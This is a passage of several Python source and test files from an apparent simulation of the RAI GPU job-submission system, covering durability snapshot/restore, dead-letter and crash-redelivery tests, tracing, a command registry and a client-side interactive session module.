        assert second < first          # the replay really was cheaper


class TestCliVerbs:
    def test_rai_usage_renders_ranked_teams(self):
        from repro.core.cli import RaiCLI

        system, provisioner, clients = _provisioned_system(seed=16)
        for client in clients:
            _submit(system, client)
        cli = RaiCLI(system, clients[0])
        out = cli.run_command("rai usage")
        assert "usage by team" in out
        for client in clients:
            assert client.team in out

    def test_rai_cost_lists_tenants_conservation_and_exemplars(self):
        from repro.core.cli import RaiCLI

        system, provisioner, clients = _provisioned_system(seed=17)
        results = [_submit(system, client) for client in clients]
        cli = RaiCLI(system, clients[0])
        out = cli.run_command("rai cost")
        assert "cost by team" in out
        assert "most expensive jobs" in out
        for client in clients:
            assert client.team in out
        for result in results:
            assert result.job_id in out
        assert "fleet $" in out and "idle/overhead $" in out

    def test_rai_cost_without_fleet_still_lists_active_teams(self, client):
        from repro.core.cli import RaiCLI

        system = client.system
        _submit(system, client)
        out = RaiCLI(system, client).run_command("rai cost")
        assert "test-team" in out
        assert "$0.0000" in out   # no provisioner -> zero cost, zero fleet

    def test_stats_carries_usage_and_cost_sections(self):
        system, provisioner, clients = _provisioned_system(seed=18)
        _submit(system, clients[0])
        stats = system.stats()
        assert stats["usage"]["tenants"] >= 1
        assert stats["cost"]["fleet_cost_usd"] > 0
