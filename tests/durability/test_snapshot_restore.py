"""Snapshot capture/install and full-system restore semantics."""

import pytest

from repro.core.config import SystemConfig
from repro.core.system import RaiSystem
from repro.durability.snapshot import capture, install
from repro.errors import InvalidCredentials
from repro.storage.chunkstore import ChunkStore, Manifest

pytestmark = pytest.mark.durability

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


def _submit_some(system, n=2, team_prefix="team"):
    clients = []
    for i in range(n):
        c = system.new_client(team=f"{team_prefix}{i}")
        c.stage_project(FILES)
        clients.append(c)
    return system.run_all(c.submit() for c in clients)


class TestSnapshotCodec:
    def test_docdb_roundtrip_preserves_docs_indexes_and_oids(self, tmp_path):
        system = RaiSystem(seed=3)
        coll = system.db.collection("things")
        coll.create_index("k", unique=True)
        coll.create_index("v", ordered=True)
        for i in range(5):
            coll.insert_one({"k": f"k{i}", "v": i})
        snap = capture(system)

        target = RaiSystem(seed=3)
        install(target, snap)
        restored = target.db.collection("things")
        assert len(restored) == 5
        assert restored.find_one({"k": "k3"})["v"] == 3
        # Index specs survived: equality and range both run indexed.
        assert restored.explain({"k": "k1"})["path"] == "index"
        assert restored.explain({"v": {"$gte": 2}})["index_kind"] == "range"
        # The oid counter continues past restored docs — no collision.
        new_id = restored.insert_one({"k": "fresh", "v": 99})
        assert new_id not in [f"oid-{i:08d}" for i in range(1, 6)]

    def test_broker_roundtrip_preserves_queue_and_dead_letters(self):
        system = RaiSystem(seed=4)
        channel = system.broker.channel("rai/tasks")
        for i in range(3):
            system.broker.publish("rai", {"n": i})
        poison = channel.try_deliver()
        poison.attempts = channel.max_attempts
        channel.requeue(poison)  # straight to dead letters
        snap = capture(system)

        target = RaiSystem(seed=4)
        install(target, snap)
        restored = target.broker.channel("rai/tasks")
        assert restored.depth == 2
        assert [m.id for m in restored.dead_letters] == [poison.id]
        assert restored.total_dead_lettered == 1

    def test_ephemeral_log_topics_not_snapshotted(self):
        system = RaiSystem(seed=5)
        system.broker.publish("log_job-000001", {"type": "stdout"})
        system.broker.publish("rai", {"n": 1})
        snap = capture(system)
        names = [t["name"] for t in snap["broker"]["topics"]]
        assert names == ["rai"]

    def test_credentials_survive_and_verify(self):
        system = RaiSystem(seed=6)
        cred = system.keystore.issue("student001", team="t1")
        snap = capture(system)
        target = RaiSystem(seed=999)  # different RNG on purpose
        install(target, snap)
        got = target.keystore.verify_pair(cred.access_key, cred.secret_key)
        assert got.username == "student001" and got.team == "t1"
        with pytest.raises(InvalidCredentials):
            target.keystore.verify_pair(cred.access_key, "wrong")


class TestChunkRefcountRebuild:
    def test_rebuild_counts_shared_chunks(self):
        store = ChunkStore(chunk_size=4)
        shared = b"AAAABBBB"
        m1, _ = store.store(shared + b"CCCC")
        m2, _ = store.store(shared + b"DDDD")
        # Simulate restore: refs wiped, rebuilt from live manifests.
        store._refs = {}
        stats = store.rebuild_refcounts([m1, m2])
        assert stats["manifests"] == 2 and stats["orphaned_chunks"] == 0
        digests = {c.digest for c in m1.chunks} | {c.digest for c in m2.chunks}
        assert set(store._refs) == digests
        # Shared chunks counted once per referencing manifest.
        for ref in m1.chunks[:2]:
            assert store._refs[ref.digest] == 2
        assert store.assemble(m1) == shared + b"CCCC"
        # Releasing one manifest keeps the shared chunks alive.
        store.release(m1)
        assert store.assemble(m2) == shared + b"DDDD"

    def test_rebuild_drops_orphaned_chunks(self):
        store = ChunkStore(chunk_size=4)
        m1, _ = store.store(b"AAAABBBB")
        m2, _ = store.store(b"CCCCDDDD")
        store._refs = {}
        stats = store.rebuild_refcounts([m2])  # m1's object was deleted
        assert stats["orphaned_chunks"] == 2
        assert stats["orphaned_bytes"] == 8
        assert store.assemble(m2) == b"CCCCDDDD"

    def test_restore_rebuilds_refcounts_from_manifests(self, tmp_path):
        system = RaiSystem.standard(num_workers=1, seed=8)
        system.attach_durability(str(tmp_path / "dur"))
        _submit_some(system, n=2)
        system.checkpoint()
        system.crash_stop()
        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=1)
        chunk_store = restored.storage.chunk_store
        # Every chunk is referenced, every manifest assembles.
        for bucket in restored.storage.buckets.values():
            for obj in bucket.objects.values():
                assert len(obj.data) == obj.size - obj.padding_bytes
        assert set(chunk_store._refs) == set(chunk_store._chunks)


class TestRestore:
    def test_cold_restart_resumes_semester(self, tmp_path):
        system = RaiSystem.standard(num_workers=2, seed=7)
        system.attach_durability(str(tmp_path / "dur"))
        results = _submit_some(system, n=3)
        assert all(r.status.value == "succeeded" for r in results)
        system.checkpoint()
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=2)
        assert restored.sim.now == pytest.approx(system.sim.now)
        assert len(restored.db.collection("submissions")) == 3
        # New work proceeds, with fresh (non-colliding) job ids.
        old_ids = {r.job_id for r in results}
        client = restored.new_client(team="late-team")
        client.stage_project(FILES)
        result = restored.run(client.submit())
        assert result.status.value == "succeeded"
        assert result.job_id not in old_ids

    def test_wal_replay_over_existing_snapshot(self, tmp_path):
        """Mutations after the last checkpoint come back from the WAL."""
        system = RaiSystem.standard(num_workers=2, seed=9)
        system.attach_durability(str(tmp_path / "dur"))
        _submit_some(system, n=1, team_prefix="early")
        system.checkpoint()
        _submit_some(system, n=2, team_prefix="late")  # post-snapshot
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=1)
        submissions = restored.db.collection("submissions")
        assert len(submissions) == 3
        teams = {d["team"] for d in submissions.find({})}
        assert teams == {"early0", "late0", "late1"}
        replay = restored.events.query(type="durability.replay")[-1]
        assert replay.fields["replayed"] > 0

    def test_wal_only_restore_without_checkpoint(self, tmp_path):
        """attach_durability's initial checkpoint makes the directory
        self-sufficient even if the operator never checkpoints again."""
        system = RaiSystem.standard(num_workers=1, seed=10)
        system.attach_durability(str(tmp_path / "dur"))
        _submit_some(system, n=2)
        system.crash_stop()  # no explicit checkpoint after the storm
        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=1)
        assert len(restored.db.collection("submissions")) == 2

    def test_snapshot_during_active_writes_is_consistent(self, tmp_path):
        """Checkpointing mid-storm must neither disturb the live run nor
        capture a state that cannot finish the storm after restore."""
        cfg = SystemConfig(client_wait_timeout_seconds=4 * 3600.0)
        system = RaiSystem.standard(num_workers=1, seed=11, config=cfg)
        system.attach_durability(str(tmp_path / "dur"))
        clients = []
        for i in range(4):
            c = system.new_client(team=f"mid{i}")
            c.stage_project(FILES)
            clients.append(c)
        procs = [system.sim.process(c.submit()) for c in clients]
        submissions = system.db.collection("submissions")
        t = 0.0
        while len(submissions) < 1:
            t += 5.0
            system.run(until=t)
        system.checkpoint()  # mid-storm: jobs queued and in flight
        for proc in procs:
            system.run(proc)
        assert len(submissions) == 4  # live run undisturbed

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=2)
        rsub = restored.db.collection("submissions")
        t2 = restored.sim.now
        while len(rsub) < 4:
            t2 += 50.0
            restored.run(until=t2)
            assert t2 < 1e7
        per_job = {}
        for doc in rsub.find({}):
            per_job[doc["job_id"]] = per_job.get(doc["job_id"], 0) + 1
        assert all(n == 1 for n in per_job.values())

    def test_restore_of_empty_directory(self, tmp_path):
        """No snapshot, no WAL: restore degrades to a fresh system."""
        restored = RaiSystem.restore(str(tmp_path / "empty"), num_workers=1)
        assert len(restored.db.collection("submissions")) == 0
        client = restored.new_client(team="first")
        client.stage_project(FILES)
        assert restored.run(client.submit()).status.value == "succeeded"


class TestDeadLetterIdempotence:
    def test_drained_dead_letter_stays_drained_after_restore(self, tmp_path):
        """The satellite: a job dead-lettered and drained before the crash
        must not re-enter the queue (or the docdb) after replay."""
        system = RaiSystem(seed=12)
        system.attach_durability(str(tmp_path / "dur"))
        channel = system.broker.channel("rai/tasks")
        system.broker.publish("rai", {"job_id": "job-000001", "kind": "run",
                                      "team": "poison"})
        msg = channel.try_deliver()
        msg.attempts = channel.max_attempts
        assert channel.requeue(msg) is False  # dead-lettered
        assert system.drain_dead_letters() == 1
        submissions = system.db.collection("submissions")
        assert submissions.find_one({"job_id": "job-000001"})["status"] \
            == "dead_lettered"
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=0)
        rchannel = restored.broker.channel("rai/tasks")
        assert rchannel.depth == 0
        assert rchannel.dead_letters == []
        assert len(rchannel.in_flight) == 0
        # Draining again is a no-op: exactly one terminal record, ever.
        assert restored.drain_dead_letters() == 0
        docs = list(restored.db.collection("submissions")
                    .find({"job_id": "job-000001"}))
        assert len(docs) == 1

    def test_undrained_dead_letter_survives_restore(self, tmp_path):
        """Parked (not yet drained) poison messages persist as parked."""
        system = RaiSystem(seed=13)
        system.attach_durability(str(tmp_path / "dur"))
        channel = system.broker.channel("rai/tasks")
        system.broker.publish("rai", {"job_id": "job-000002", "kind": "run"})
        msg = channel.try_deliver()
        msg.attempts = channel.max_attempts
        channel.requeue(msg)
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=0)
        rchannel = restored.broker.channel("rai/tasks")
        assert [m.id for m in rchannel.dead_letters] == [msg.id]
        assert restored.drain_dead_letters() == 1  # drainable exactly once
        assert restored.drain_dead_letters() == 0


class TestInFlightFencing:
    def test_finished_job_not_requeued(self, tmp_path):
        """An in-flight delivery whose job already has a terminal record
        is completed in place on restore, not re-executed."""
        system = RaiSystem(seed=14)
        system.attach_durability(str(tmp_path / "dur"))
        channel = system.broker.channel("rai/tasks")
        system.broker.publish("rai", {"job_id": "job-000009", "kind": "run"})
        msg = channel.try_deliver()
        assert msg.id in channel.in_flight
        # The worker recorded the result but died before acking.
        system.db.collection("submissions").insert_one(
            {"job_id": "job-000009", "status": "succeeded"})
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=0)
        rchannel = restored.broker.channel("rai/tasks")
        assert rchannel.depth == 0 and len(rchannel.in_flight) == 0
        replay = restored.events.query(type="durability.replay")[-1]
        assert replay.fields["fenced"] == 1
        assert replay.fields["requeued"] == 0

    def test_unfinished_job_requeued_with_attempts(self, tmp_path):
        system = RaiSystem(seed=15)
        system.attach_durability(str(tmp_path / "dur"))
        channel = system.broker.channel("rai/tasks")
        system.broker.publish("rai", {"job_id": "job-000010", "kind": "run"})
        msg = channel.try_deliver()
        assert msg.attempts == 1
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=0)
        rchannel = restored.broker.channel("rai/tasks")
        assert rchannel.depth == 1 and len(rchannel.in_flight) == 0
        requeued = rchannel.items[0]
        assert requeued.id == msg.id
        assert requeued.attempts == 1  # attempt budget preserved

    def test_out_of_budget_in_flight_parks_in_dead_letters(self, tmp_path):
        system = RaiSystem(seed=16)
        system.attach_durability(str(tmp_path / "dur"))
        channel = system.broker.channel("rai/tasks")
        system.broker.publish("rai", {"job_id": "job-000011", "kind": "run"})
        msg = channel.try_deliver()
        # Burn the whole budget through real (journaled) delivery cycles,
        # ending in flight on the final attempt.
        for _ in range(channel.max_attempts - 1):
            assert channel.requeue(msg) is True
            msg = channel.try_deliver()
        assert msg.attempts == channel.max_attempts
        assert msg.id in channel.in_flight
        system.crash_stop()

        restored = RaiSystem.restore(str(tmp_path / "dur"), num_workers=0)
        rchannel = restored.broker.channel("rai/tasks")
        assert len(rchannel.in_flight) == 0
        assert rchannel.depth == 0
        assert len(rchannel.dead_letters) == 1
