"""Focused tests for remaining corners of the core and substrates."""

import pytest

from repro._version import build_info
from repro.core.job import JobStatus
from repro.core.system import RaiSystem

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


class TestVersionStamping:
    def test_build_info_fields(self):
        info = build_info()
        assert {"version", "branch", "commit", "build_date"} <= set(info)

    def test_build_info_returns_copy(self):
        build_info()["commit"] = "mutated"
        assert build_info()["commit"] != "mutated"


class TestUploadExpiredMidQueue:
    def test_missing_upload_rejects_job(self):
        """The archive vanished (lifecycle/expiry race) before a worker
        picked the job up → rejected, not crashed."""
        system = RaiSystem(seed=3)      # no workers yet
        client = system.new_client(team="t")
        client.stage_project(FILES)
        proc = system.sim.process(client.submit())
        system.run(until=system.sim.now + 30)
        # Delete the upload while the job sits in the queue.
        uploads = system.config.upload_bucket
        for key in list(system.storage.iter_keys(uploads)):
            system.storage.delete_object(uploads, key)
        system.add_worker()
        result = system.run(proc)
        assert result.status is JobStatus.REJECTED
        assert "cannot fetch project" in result.stderr_text()


class TestBrokerAccounting:
    def test_bytes_published_tracked(self, sim):
        from repro.broker import MessageBroker

        broker = MessageBroker(sim)
        broker.publish("rai", {"payload": "x" * 100})
        assert broker.total_bytes_published > 100
        stats = broker.stats()
        assert stats["counters"]["messages_published"] == 1

    def test_message_encoded_size(self, sim):
        from repro.broker import MessageBroker

        broker = MessageBroker(sim)
        msg = broker.publish("rai", {"k": "v"})
        assert msg.encoded_size() == len('{"k": "v"}')


class TestStorageAccounting:
    def test_stats_and_iteration(self, sim):
        from repro.storage import ObjectStore

        store = ObjectStore(sim)
        store.create_bucket("a")
        store.create_bucket("b")
        store.put_object("a", "x/1", b"1234")
        store.put_object("a", "y/2", b"56")
        store.put_object("b", "z", b"789")
        assert store.total_objects == 3
        assert store.total_bytes == 9
        assert list(store.iter_keys("a", prefix="x/")) == ["x/1"]
        stats = store.stats()
        assert stats["buckets"]["a"]["objects"] == 2


class TestDeviceModelBranches:
    def test_cpu_memory_bound_branch(self):
        from repro.gpu.device import CPUDevice

        cpu = CPUDevice(name="c", clock_ghz=100.0, mem_bandwidth_gbs=1.0)
        # Negligible FLOPs, huge traffic: time == bytes / bandwidth.
        t = cpu.time_for(flops=1.0, bytes_moved=2e9)
        assert t == pytest.approx(2.0)

    def test_gpu_efficiency_clamped(self):
        from repro.gpu.device import GPUDevice

        gpu = GPUDevice(name="g", sm_count=1, clock_ghz=1.0,
                        peak_gflops_fp32=1000.0, mem_bandwidth_gbs=100.0,
                        mem_gb=1.0)
        t_over = gpu.time_for(1e9, 0, compute_efficiency=5.0)
        t_unit = gpu.time_for(1e9, 0, compute_efficiency=1.0)
        assert t_over == pytest.approx(t_unit)


class TestStudentProvidedDeterminism:
    def test_gpu_ownership_is_stable_per_student(self):
        from repro.baselines import StudentProvidedSystem
        from repro.baselines.base import BaselineJob

        system = StudentProvidedSystem(gpu_ownership_rate=0.3)
        first = system.submit(BaselineJob(owner="alice"))
        second = system.submit(BaselineJob(owner="alice"))
        assert first.accepted == second.accepted

    def test_ownership_rate_roughly_respected(self):
        from repro.baselines.student_provided import hash_fraction

        fractions = [hash_fraction(f"student{i}") for i in range(500)]
        share = sum(1 for f in fractions if f < 0.3) / len(fractions)
        assert 0.2 < share < 0.4


class TestRateLimitedError:
    def test_retry_after_attribute(self):
        from repro.errors import RateLimited

        exc = RateLimited(retry_after=12.5)
        assert exc.retry_after == 12.5
        assert "12.5" in str(exc)


class TestCourseResultHelpers:
    def test_window_filtering_without_full_run(self):
        from repro.workload.course import CourseConfig, CourseResult

        config = CourseConfig(n_students=6, n_teams=2, duration_days=10)
        result = CourseResult(config=config, system=None,
                              provisioner=None, teams=[])
        day = 24 * 3600.0
        result.submission_times = [0.5 * day, 3 * day, 9.5 * day]
        assert len(result.submissions_in_window(0, 1)) == 1
        assert len(result.last_two_weeks()) == 3   # 10-day course: all
        assert len(result.submissions_in_window(9, 10)) == 1
