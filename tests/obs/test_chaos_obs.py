"""Chaos suite for repro.obs: tracing under crashes, eviction, stalls.

The point of distributed tracing is precisely the run that went wrong,
so these tests exercise the ugly paths: a worker crash mid-job with
broker redelivery (the trace must stitch both attempts together), ring
eviction while a job is still running (its trace must survive), and a
telemetry sampler that stops heartbeating (the operator report must say
so).
"""

import pytest

from repro.core.config import SystemConfig
from repro.core.job import JobStatus
from repro.core.system import RaiSystem
from repro.core.telemetry import TelemetrySampler, health_report
from repro.obs.span import SpanStatus

pytestmark = [pytest.mark.obs, pytest.mark.chaos]

FILES = {
    "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


def _submit_one(system, team):
    client = system.new_client(team=team)
    client.stage_project(FILES)
    return system.run(client.submit())


class TestCrashRedeliveryTrace:
    """Mirror of the headline at-least-once test, viewed through obs."""

    @pytest.fixture
    def crashed_run(self):
        system = RaiSystem.standard(num_workers=1, seed=66)
        system.start_caretaker(interval=30.0, in_flight_timeout=600.0)
        victim = system.workers[0]

        client = system.new_client(team="resilient-team")
        client.stage_project(FILES)
        job_proc = system.sim.process(client.submit())

        def chaos(sim):
            yield sim.timeout(5.0)
            assert victim.active_jobs == 1
            victim.crash()
            yield sim.timeout(60.0)
            system.add_worker()

        system.sim.process(chaos(system.sim))
        result = system.run(job_proc)
        assert result.status is JobStatus.SUCCEEDED
        return system, result, victim

    def test_one_trace_spans_both_attempts(self, crashed_run):
        system, result, victim = crashed_run
        trace = system.tracer.trace_for_job(result.job_id)
        assert trace is not None
        # Both worker attempts landed in the SAME trace.
        jobs = trace.find("worker.job")
        assert len(jobs) == 2
        first, second = sorted(jobs, key=lambda s: s.start_time)
        assert first.attributes["attempt"] == 1
        assert first.attributes["worker"] == victim.id
        assert second.attributes["attempt"] == 2
        assert second.attributes["worker"] != victim.id
        assert second.attributes["status"] == "succeeded"

    def test_crashed_attempt_closed_with_fault_event(self, crashed_run):
        system, result, victim = crashed_run
        trace = system.tracer.trace_for_job(result.job_id)
        first = sorted(trace.find("worker.job"),
                       key=lambda s: s.start_time)[0]
        # The crash closed the span (error), it didn't orphan it open.
        assert not first.is_open
        assert first.status == SpanStatus.ERROR
        assert "crashed" in first.status_message
        events = {name for (_, name, _) in first.events}
        assert "fault.worker_crash" in events
        # Every span in the trace eventually closed: nothing leaks live.
        assert all(not s.is_open for s in trace.spans)
        assert not trace.is_live

    def test_redelivery_chains_deliver_spans(self, crashed_run):
        system, result, victim = crashed_run
        trace = system.tracer.trace_for_job(result.job_id)
        # Deliver spans on the task topic: one per attempt, chained.
        delivers = sorted(
            (s for s in trace.find("broker.deliver")
             if s.attributes.get("topic") == "rai"),
            key=lambda s: s.attributes["attempt"])
        assert [d.attributes["attempt"] for d in delivers] == [1, 2]
        redelivered = delivers[1]
        assert any(name == "redelivery"
                   for (_, name, _) in redelivered.events)
        # The redelivery parents on the first delivery, not the client.
        assert redelivered.parent_id == delivers[0].span_id


class TestRingEvictionInSystem:
    def test_resubmission_storm_keeps_latest_traces(self):
        config = SystemConfig(trace_max_traces=2)
        system = RaiSystem.standard(num_workers=1, seed=7, config=config)
        results = [_submit_one(system, f"team-{i}") for i in range(5)]
        store = system.tracer.store
        assert len(store) == 2
        assert store.total_evicted == 3
        # The newest job's trace is intact and complete.
        last = system.tracer.trace_for_job(results[-1].job_id)
        assert last is not None
        assert {"client.submit", "worker.job"} <= {s.name for s in last.spans}
        assert all(not s.is_open for s in last.spans)
        # The oldest jobs were evicted, index included.
        for result in results[:3]:
            assert system.tracer.trace_for_job(result.job_id) is None

    def test_eviction_never_orphans_running_job(self):
        """A live trace survives a storm of finished ones around it."""
        config = SystemConfig(trace_max_traces=2)
        system = RaiSystem.standard(num_workers=2, seed=7, config=config)

        slow_client = system.new_client(team="slow")
        slow_client.stage_project({
            "main.cu": "// @rai-sim quality=0.8 impl=analytic\n",
            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
        })
        slow_proc = system.sim.process(slow_client.submit())

        def storm(sim):
            # While the slow job runs, five quick jobs churn the ring.
            for i in range(5):
                fast = system.new_client(team=f"fast-{i}")
                fast.stage_project(FILES)
                yield from fast.submit()

        system.sim.process(storm(system.sim))
        result = system.run(slow_proc)
        assert result.status is JobStatus.SUCCEEDED
        trace = system.tracer.trace_for_job(result.job_id)
        assert trace is not None, "live trace was evicted mid-flight"
        assert trace.find("worker.job"), "worker spans orphaned"
        assert all(not s.is_open for s in trace.spans)


class TestStuckSamplerAlert:
    def test_stalled_sampler_flags_in_report(self):
        system = RaiSystem.standard(num_workers=1, seed=3)
        sampler = TelemetrySampler(system, interval=10.0)
        # Prime the generator so the sampler is "started" — but never
        # schedule it on the kernel, simulating a wedged process.
        gen = sampler.run()
        next(gen)

        def advance(sim):
            yield sim.timeout(50.0)

        system.sim.process(advance(system.sim))
        system.run(until=50.0)
        assert sampler.is_stuck()
        report = health_report(system, sampler)
        assert "stuck" in report
        assert "ALERT" in report

    def test_healthy_sampler_not_flagged(self):
        system = RaiSystem.standard(num_workers=1, seed=3)
        sampler = TelemetrySampler(system, interval=10.0)
        system.sim.process(sampler.run())
        _submit_one(system, "healthy")
        assert not sampler.is_stuck()
        report = health_report(system, sampler)
        assert "stuck" not in report

    def test_stopped_sampler_not_stuck(self):
        system = RaiSystem.standard(num_workers=1, seed=3)
        sampler = TelemetrySampler(system, interval=10.0)
        system.sim.process(sampler.run())
        _submit_one(system, "stopping")
        sampler.stop()

        def advance(sim):
            yield sim.timeout(500.0)

        system.sim.process(advance(system.sim))
        system.run(until=system.sim.now + 500.0)
        assert not sampler.is_stuck()
