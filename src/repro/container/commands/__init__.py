"""Guest command registry.

Two registries exist:

- **commands** — looked up by name from the shell (``echo``, ``cmake``,
  ``make``, ``time``, ``nvprof``, the coreutils);
- **programs** — executable files whose content starts with
  ``#!rai-exec NAME`` (the ``ece408`` binary that ``make`` produces,
  ``nvidia-smi`` from the CUDA volume).

Both kinds receive an :class:`~repro.container.container.ExecContext` and
must account for simulated time via ``ctx.charge`` and memory via
``ctx.use_memory``.
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.container.commands.base import GuestCommand, GuestProgram

_COMMANDS: Dict[str, GuestCommand] = {}
_PROGRAMS: Dict[str, GuestProgram] = {}


def register_command(command: GuestCommand) -> GuestCommand:
    _COMMANDS[command.name] = command
    return command


def register_program(program: GuestProgram) -> GuestProgram:
    _PROGRAMS[program.name] = program
    return program


def lookup_command(name: str) -> Optional[GuestCommand]:
    _ensure_loaded()
    return _COMMANDS.get(name)


def lookup_program(name: str) -> Optional[GuestProgram]:
    _ensure_loaded()
    return _PROGRAMS.get(name)


def command_names():
    _ensure_loaded()
    return sorted(_COMMANDS)


_loaded = False


def _ensure_loaded() -> None:
    global _loaded
    if _loaded:
        return
    _loaded = True
    # Importing these modules runs their registration side effects.
    from repro.container.commands import (  # noqa: F401
        build,
        coreutils,
        ece408,
        nvprof,
        timecmd,
    )


__all__ = [
    "GuestCommand",
    "GuestProgram",
    "register_command",
    "register_program",
    "lookup_command",
    "lookup_program",
    "command_names",
]
