"""Interactive sessions — the paper's stated future work, implemented.

§VIII: "Future work of RAI includes allowing instructors to configure
interactive sessions to enable more debugging and profiling tools."

An interactive session gives a student a live container on a worker for a
bounded time: commands are sent one at a time over the broker and state
persists *between* commands (unlike batch jobs, where each submission gets
a fresh container).  The same sandbox contract applies — whitelisted
image, no network, memory cap — plus a session deadline and an idle
timeout so an absent student cannot squat on a GPU.

Wire protocol (all over ordinary broker topics, ephemeral like job logs):

- requests:  ``rai-interactive/sessions`` (competing consumers = workers
  with ``enable_interactive``);
- inputs:    ``log_isin_${session_id}/#in`` — ``exec`` / ``detach``;
- outputs:   ``log_isout_${session_id}/#out`` — ``attached`` / ``log`` /
  ``result`` / ``end``.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass, field
from typing import List, Optional, Tuple

from repro.auth.signing import sign_request, verify_request
from repro.broker.client import Consumer, Producer
from repro.errors import (
    BuildSpecError,
    ImageNotFound,
    ImageNotWhitelisted,
    Interrupt,
    InvalidCredentials,
    RaiError,
    RateLimited,
    SignatureMismatch,
)
from repro.vfs import VirtualFileSystem, pack_tree, unpack_tree

#: Route interactive-capable workers consume from.
SESSION_ROUTE = "rai-interactive/sessions"

#: Default wall-clock budget of a session (instructor-configurable).
DEFAULT_SESSION_SECONDS = 1800.0

#: A session with no commands for this long is reclaimed.
DEFAULT_IDLE_SECONDS = 300.0

_session_counter = itertools.count(1)


def new_session_id() -> str:
    return f"isess-{next(_session_counter):06d}"


def reset_session_ids() -> None:
    global _session_counter
    _session_counter = itertools.count(1)


@dataclass
class CommandOutcome:
    """Result of one interactive command."""

    command: str
    exit_code: int
    stdout: str
    stderr: str
    duration: float


@dataclass
class SessionTranscript:
    """Everything that happened in one session (recorded in the DB)."""

    session_id: str
    status: str = "pending"          # attached/ended/rejected/expired
    worker_id: Optional[str] = None
    outcomes: List[CommandOutcome] = field(default_factory=list)
    error: Optional[str] = None
    end_reason: Optional[str] = None


class InteractiveSession:
    """Client-side handle.

    Usage (inside a simulation process)::

        session = InteractiveSession(client)
        yield from session.start()
        outcome = yield from session.run("nvprof ./ece408 ...")
        yield from session.close()
    """

    def __init__(self, client, image: str = "webgpu/rai:root",
                 max_duration: float = DEFAULT_SESSION_SECONDS,
                 upload_project: bool = True):
        self.client = client
        self.system = client.system
        self.sim = client.sim
        self.image = image
        self.max_duration = max_duration
        self.upload_project = upload_project
        self.session_id = new_session_id()
        self.transcript = SessionTranscript(session_id=self.session_id)
        self._out: Optional[Consumer] = None
        self._in: Optional[Producer] = None
        self._seq = itertools.count(1)
        self._ended = False

    @property
    def is_attached(self) -> bool:
        return self.transcript.status == "attached" and not self._ended

    # -- lifecycle ----------------------------------------------------------

    def start(self):
        """Request a session and wait for a worker to attach (generator)."""
        profile = self.client.profile
        try:
            self.system.keystore.verify_pair(profile.access_key,
                                             profile.secret_key)
            self.system.rate_limiter.check(
                f"interactive:{self.client.team or profile.username}")
        except (InvalidCredentials, RateLimited) as exc:
            self.transcript.status = "rejected"
            self.transcript.error = str(exc)
            return self.transcript

        upload_key = None
        if self.upload_project and self.client.project_fs.file_count("/"):
            archive = pack_tree(self.client.project_fs, "/")
            yield self.sim.timeout(
                len(archive) / self.system.config.client_bandwidth_bps)
            upload_key = f"{profile.username}/{self.session_id}.tar.bz2"
            self.system.storage.put_object(
                self.system.config.upload_bucket, upload_key, archive,
                metadata={"session": self.session_id})

        body = {
            "session_id": self.session_id,
            "username": profile.username,
            "team": self.client.team,
            "access_key": profile.access_key,
            "image": self.image,
            "max_duration": self.max_duration,
            "upload_key": upload_key,
            "requested_at": self.sim.now,
        }
        body["signature"] = sign_request(profile.secret_key,
                                         {k: v for k, v in body.items()
                                          if k != "signature"},
                                         self.sim.now)
        # Subscribe to outputs before publishing the request.
        self._out = Consumer(self.system.broker,
                             f"log_isout_{self.session_id}/#out")
        self._in = Producer(self.system.broker,
                            f"log_isin_{self.session_id}")
        self.system.broker.publish("rai-interactive", body)
        self.system.monitor.incr("interactive_sessions_requested")

        while True:
            message = yield self._out.get()
            self._out.ack(message)
            payload = message.body
            if payload["type"] == "attached":
                self.transcript.status = "attached"
                self.transcript.worker_id = payload["worker"]
                return self.transcript
            if payload["type"] in ("rejected", "end"):
                self.transcript.status = "rejected"
                self.transcript.error = payload.get("error", "rejected")
                self._teardown()
                return self.transcript

    def run(self, command: str):
        """Execute one command in the live container (generator)."""
        if not self.is_attached:
            raise RaiError("session is not attached")
        seq = next(self._seq)
        self._in.publish({"type": "exec", "command": command, "seq": seq})
        stdout_parts: List[str] = []
        stderr_parts: List[str] = []
        while True:
            message = yield self._out.get()
            self._out.ack(message)
            payload = message.body
            if payload["type"] == "log":
                (stdout_parts if payload["stream"] == "stdout"
                 else stderr_parts).append(payload["text"])
                if self.client.on_line is not None:
                    self.client.on_line(payload["stream"], payload["text"])
            elif payload["type"] == "result" and payload["seq"] == seq:
                outcome = CommandOutcome(
                    command=command,
                    exit_code=payload["exit_code"],
                    stdout="".join(stdout_parts),
                    stderr="".join(stderr_parts),
                    duration=payload["duration"],
                )
                self.transcript.outcomes.append(outcome)
                return outcome
            elif payload["type"] == "end":
                self._mark_ended(payload)
                raise RaiError(
                    f"session ended mid-command: {payload.get('reason')}")

    def close(self):
        """Detach cleanly (generator)."""
        if self._ended:
            return self.transcript
        if self._in is not None:
            self._in.publish({"type": "detach"})
        while not self._ended:
            message = yield self._out.get()
            self._out.ack(message)
            if message.body["type"] == "end":
                self._mark_ended(message.body)
        return self.transcript

    # -- internals ----------------------------------------------------------

    def _mark_ended(self, payload: dict) -> None:
        self._ended = True
        self.transcript.status = "ended"
        self.transcript.end_reason = payload.get("reason")
        self._teardown()

    def _teardown(self) -> None:
        if self._out is not None:
            self._out.close()
            self._out = None
        if self._in is not None:
            self._in.close()
            self._in = None


# --------------------------------------------------------------------------
# Worker side
